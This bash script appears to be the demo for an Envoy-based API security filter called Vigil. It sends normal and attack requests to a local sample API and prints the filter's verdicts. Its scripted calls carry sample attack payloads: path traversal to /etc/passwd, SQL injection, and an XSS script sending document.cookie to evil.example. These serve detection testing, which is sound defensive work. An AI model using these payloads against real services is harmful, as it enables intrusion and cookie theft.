#!/usr/bin/env bash
# `make run`: the sample API (or your service) behind Envoy with Vigil, a scripted mix of normal and
# malicious calls, and what Vigil logged for each; then keeps serving until Ctrl-C.
#
#   scripts/demo.sh                      sample API on 127.0.0.1:18080, Envoy on :10000, admin :9901
#   UPSTREAM=host:port scripts/demo.sh   protect your own service (the scripted calls are skipped
#                                        unless DEMO_TRAFFIC=1: they include attacks)
# Environment: VIGIL_BIN, VIGIL_WASM, ENVOY_BIN (artifacts), LISTEN, ADMIN, MODE (monitor|block),
# MODEL (a learned model.json to embed).
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
cd "$ROOT"

VIGIL_BIN="${VIGIL_BIN:-$ROOT/target/release/vigil}"
VIGIL_WASM="${VIGIL_WASM:-$ROOT/target/wasm32-wasip1/release/vigil_filter.wasm}"
ENVOY_BIN="${ENVOY_BIN:-$ROOT/.venv/bin/envoy}"
LISTEN="${LISTEN:-127.0.0.1:10000}"
ADMIN="${ADMIN:-127.0.0.1:9901}"
UPSTREAM="${UPSTREAM:-}"
MODE="${MODE:-}"
MODEL="${MODEL:-}"
SAMPLE_PORT=18080
RUN="$ROOT/run"
ACCESS_LOG="$RUN/access.jsonl"

for f in "$VIGIL_BIN" "$VIGIL_WASM" "$ENVOY_BIN"; do
  [ -e "$f" ] || { echo "missing $f: run 'make build'" >&2; exit 1; }
done
mkdir -p "$RUN"

PIDS=()
cleanup() {
  local pid
  trap - INT TERM EXIT
  for pid in "${PIDS[@]}"; do
    kill "$pid" 2>/dev/null || true
  done
  for pid in "${PIDS[@]}"; do
    wait "$pid" 2>/dev/null || true
  done
}
trap cleanup EXIT
# Ctrl-C is how the demo is meant to end: stop cleanly, exit 0.
trap 'echo; echo stopped.; exit 0' INT
trap 'exit 143' TERM

# wait_for DESCRIPTION SECONDS COMMAND...: poll COMMAND until it succeeds or the deadline passes.
wait_for() {
  local what="$1" secs="$2"; shift 2
  local end=$((SECONDS + secs))
  until "$@" >/dev/null 2>&1; do
    if [ "$SECONDS" -ge "$end" ]; then
      echo "timed out after ${secs}s waiting for $what" >&2
      return 1
    fi
    sleep 0.1
  done
}

# --- upstream ------------------------------------------------------------------------------------
if [ -z "$UPSTREAM" ]; then
  UPSTREAM="127.0.0.1:$SAMPLE_PORT"
  python3 examples/sample-api/server.py --port "$SAMPLE_PORT" >"$RUN/sample-api.out" 2>&1 &
  PIDS+=($!)
  wait_for "the sample API (see $RUN/sample-api.out)" 10 grep -q '^READY' "$RUN/sample-api.out"
  SAMPLE=1
else
  SAMPLE=0
fi
echo "upstream:   $UPSTREAM$([ "$SAMPLE" = 1 ] && echo ' (sample API, examples/sample-api/server.py)')"

# --- Envoy + Vigil -------------------------------------------------------------------------------
render=("$VIGIL_BIN" render-config --wasm "$VIGIL_WASM" --listen "$LISTEN" --admin "$ADMIN"
        --upstream "$UPSTREAM" --access-log "$ACCESS_LOG" -o "$RUN/envoy.yaml")
[ -n "$MODE" ] && render+=(--mode "$MODE")
[ -n "$MODEL" ] && render+=(--model "$MODEL")
"${render[@]}"
rm -f "$ACCESS_LOG"

# --disable-hot-restart: lets the demo run next to tests or other Envoys (platform.md section 9).
"$ENVOY_BIN" -c "$RUN/envoy.yaml" --disable-hot-restart --log-path "$RUN/envoy.log" \
  --file-flush-interval-msec 200 &
ENVOY_PID=$!
PIDS+=("$ENVOY_PID")
envoy_ready() {
  kill -0 "$ENVOY_PID" 2>/dev/null || { echo "Envoy exited; tail of $RUN/envoy.log:" >&2; tail -n 30 "$RUN/envoy.log" >&2; exit 1; }
  [ "$(curl -s --max-time 1 "http://$ADMIN/ready")" = LIVE ]
}
end=$((SECONDS + 30))
until envoy_ready; do
  [ "$SECONDS" -lt "$end" ] || { echo "Envoy not ready after 30s; tail of $RUN/envoy.log:" >&2; tail -n 30 "$RUN/envoy.log" >&2; exit 1; }
  sleep 0.1
done
echo "envoy:      http://$LISTEN  (admin http://$ADMIN, pid $ENVOY_PID)"
echo "config:     $RUN/envoy.yaml"
echo "envoy log:  $RUN/envoy.log"
echo "access log: $ACCESS_LOG   (one JSON line per request; the 'vigil' field holds the verdict)"
echo

# --- scripted traffic ----------------------------------------------------------------------------
if [ "$SAMPLE" = 1 ] || [ "${DEMO_TRAFFIC:-0}" = 1 ]; then
  # A demo JWT whose `sub` identifies the client: HS256-shaped with a one-hour lifetime and a dummy
  # signature (Vigil never verifies; an `alg: none` token the API accepts would be flagged as posture).
  JWT="$(python3 -c 'import base64,json
b=lambda o: base64.urlsafe_b64encode(json.dumps(o,separators=(",",":")).encode()).rstrip(b"=").decode()
print(b({"alg":"HS256","typ":"JWT"})+"."+b({"sub":"user-1001","scope":"accounts","iat":1763700000,"exp":1763703600})+".ZGVtbw")')"
  BASE="http://$LISTEN"
  IDS=()
  n=0
  call() { # call DESCRIPTION CURL-ARGS...
    local desc="$1"; shift
    n=$((n + 1))
    local id="demo-$$-$n"
    IDS+=("$id")
    local code
    code="$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 --path-as-is \
      -H "x-request-id: $id" -H 'user-agent: vigil-demo/1.0' -H 'accept: application/json' "$@")" || code="ERR"
    printf '  %-3s %-44s -> %s\n' "$n" "$desc" "$code"
  }
  AUTH=(-H "authorization: Bearer $JWT")
  JSON=(-H 'content-type: application/json')
  echo "sending scripted calls:"
  call "health check"                    "$BASE/healthz"
  call "profile"                         "${AUTH[@]}" "$BASE/api/v1/users/me"
  call "account detail"                  "${AUTH[@]}" "$BASE/api/v1/accounts/1001"
  call "balance"                         "${AUTH[@]}" "$BASE/api/v1/accounts/1001/balance"
  call "search"                          "${AUTH[@]}" "$BASE/api/v1/search?q=coffee&limit=20"
  call "login"                           "${JSON[@]}" --data-binary '{"username":"jane","password":"correct horse"}' "$BASE/api/v1/login"
  call "transfer"                        "${AUTH[@]}" "${JSON[@]}" --data-binary '{"from":"1001","to":"2002","amount":"25.00","currency":"USD","memo":"rent share"}' "$BASE/api/v1/transfers"
  call "ATTACK path traversal"           "${AUTH[@]}" "$BASE/api/v1/files/..%2f..%2fetc%2fpasswd"
  call "ATTACK SQL injection in query"   "${AUTH[@]}" "$BASE/api/v1/search?q=%27%20OR%201%3D1--"
  call "ATTACK XSS in JSON body"         "${AUTH[@]}" "${JSON[@]}" --data-binary '{"from":"1001","to":"2002","amount":"1.00","currency":"USD","memo":"<script>document.location=\"https://evil.example/?c=\"+document.cookie</script>"}' "$BASE/api/v1/transfers"
  call "LEAK card number in response"    "${AUTH[@]}" "$BASE/api/v1/accounts/1001/cards"
  call "unknown endpoint"                "${AUTH[@]}" "$BASE/api/v1/admin/export?all=true"
  call "no credentials"                  "$BASE/api/v1/accounts/1002"
  call "MISCONFIG stack trace + banner"  "${AUTH[@]}" "$BASE/api/v1/debug/error"
  call "MISCONFIG Basic auth, open CORS" -u jane:secret -H 'origin: https://evil.example' "$BASE/api/v1/legacy/profile"
  echo
  echo "what Vigil logged ($ACCESS_LOG):"
  # Access-log lines are flushed asynchronously: wait (with a deadline) until every call is there.
  python3 - "$ACCESS_LOG" "${IDS[@]}" <<'PY'
import json, sys, time
path, ids = sys.argv[1], sys.argv[2:]
deadline = time.time() + 10
lines = {}
starred = False
while True:
    try:
        with open(path) as f:
            for raw in f:
                try:
                    rec = json.loads(raw)
                except ValueError:
                    continue
                if rec.get("request_id") in ids:
                    lines[rec["request_id"]] = rec
    except FileNotFoundError:
        pass
    if len(lines) == len(ids) or time.time() > deadline:
        break
    time.sleep(0.1)
print("  %-3s %-6s %-44s %-6s %-7s %-5s %s" % ("#", "method", "path", "status", "verdict", "score", "findings"))
for i, rid in enumerate(ids, 1):
    rec = lines.get(rid)
    if rec is None:
        print("  %-3d (no access-log line for %s yet)" % (i, rid))
        continue
    v = rec.get("vigil")
    if isinstance(v, str):
        try:
            v = json.loads(v)
        except ValueError:
            v = None
    if not isinstance(v, dict):
        v = {}
    kinds = ",".join(f.get("kind", "?") for f in v.get("findings") or []) or "-"
    score = v.get("score")
    score = "%.2f" % score if isinstance(score, (int, float)) else "-"
    verdict = str(v.get("verdict") or "-")
    if v.get("enforced") is False and verdict not in ("-", "allow"):
        verdict += "*"
        starred = True
    path = str(rec.get("path"))
    path = path if len(path) <= 44 else path[:41] + "..."
    print("  %-3d %-6s %-44s %-6s %-7s %-5s %s" % (i, rec.get("method"), path, rec.get("status"), verdict, score, kinds))
if starred:
    print("  * monitor mode: not enforced (the verdict says what block mode would do; MODE=block enforces)")
PY
else
  echo "protecting $UPSTREAM: send traffic to http://$LISTEN (scripted calls skipped; DEMO_TRAFFIC=1 sends them)"
fi
echo
echo "serving on http://$LISTEN; follow the verdicts with: tail -f $ACCESS_LOG"
echo "Ctrl-C to stop."
wait "$ENVOY_PID"
